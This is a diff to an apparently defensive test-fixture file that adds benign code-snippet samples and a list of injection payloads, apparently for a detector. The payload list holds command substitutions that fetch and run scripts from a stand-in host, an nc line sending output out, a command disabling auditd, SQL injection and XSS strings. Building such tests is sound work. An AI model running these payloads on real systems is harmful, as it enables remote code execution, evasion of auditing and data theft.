@@ -17,6 +17,9 @@ HONEST = {
     "span": "I tried `find / -size +1M | xargs ls -lh | sort` but it takes too long.",
     "statement in a span": "Please explain what `SELECT * FROM users WHERE id = 1` does.",
     "statement in a span, after one": "Does `DROP TABLE users;` differ from `DELETE FROM users`?",
+    "what a script asks": "Build it:\n\n```bash\ndocker rm $(docker ps -aq)\nexport V=$(git describe --tags) ARCH=$(uname -m)\n```\n",
+    "what an interpreter is asked": "Set it yourself:\n\n```bash\nexport P=$(python3 -c 'import sys; print(sys.base_prefix)')\n```\n",
+    "quoted strings of a shell": "Then run this, please:\n\n```bash\necho \"done\"; ls 'a b'; cat 'x.txt' | sort\n```\n",
     "double span": "Fix annotations for the ``query`` parameter and ``sh`` completion of the tool.",
     "indented": "The following installs all of them:\n\n    $ pip install a\n    $ python -m a | less\n\nThen go on.",
     "prompts": "What does this print, please?\n>>> import os\n>>> os.listdir('.')\n",
@@ -82,6 +85,15 @@ WITHIN = [
     "<a href=javascript:alert`1`>x</a>",
     "{{constructor.constructor`alert(1)```}}",
     "at com.acme.Cart.total(Cart.java:42)' union select a,b from users-- ",
+    "```bash\nsudo apt install ./tool_$(curl -s http://a.example/x.sh|sh)_amd64.deb\n```",
+    "```sh\necho $(id>/tmp/o) && printf '$(wget${IFS}-qO-${IFS}http://a.example/p|sh)'\n```",
+    "    at com.acme.Pool.get(Pool.java:$(id>/tmp/o))",
+    "`cat <(wget -qO- http://a.example/i|bash)`",
+    "```python\nprint('; id | nc 192.0.2.10 80; echo ')\n```",
+    "```\nwait'; systemctl disable --now auditd # \n```",
+    "```powershell\nWrite-Host $([Net.WebClient]::new().DownloadString('http://a.example/a.ps1')|iex)\n```",
+    "```sql\nSELECT * FROM t WHERE a = x' OR 1=(SELECT count(*) FROM users) OR 'b'='\n```",
+    "```\ncp: cannot create file x'||(SELECT string_agg(name, ',') FROM users)||': Permission denied\n```",
 ]
 
 
